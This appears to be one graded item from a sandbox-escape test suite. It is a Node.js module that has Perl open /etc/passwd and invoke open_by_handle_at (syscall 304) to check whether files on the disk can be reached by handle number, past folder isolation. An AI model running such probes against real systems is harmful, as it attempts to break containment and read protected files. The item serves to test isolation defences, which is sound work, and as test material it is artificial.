// attack: opens files of the disk by number, past every folder | family: kernel | item: error-share | verdicts: fail | points: 0 | tiers: T2
import { spawnSync } from 'node:child_process'
import { writeSync } from 'node:fs'

// x64's numbers; on arm64 other calls are meant, and the filter of that machine answers.
const script = String.raw`
  my $h=pack('IIQ',8,1,2).("\0"x64);
  if(open(my $r,'<','/etc/passwd')){ print 'reached: handle ' if syscall(304,fileno($r),$h,0)!=-1 }
`
export const errorShare = () => {
  const { stdout, stderr } = spawnSync('perl', ['-e', `$| = 1; print 'tried '; ${script}`], { timeout: 900 })
  writeSync(1, `${stdout} ${stderr}`)
}
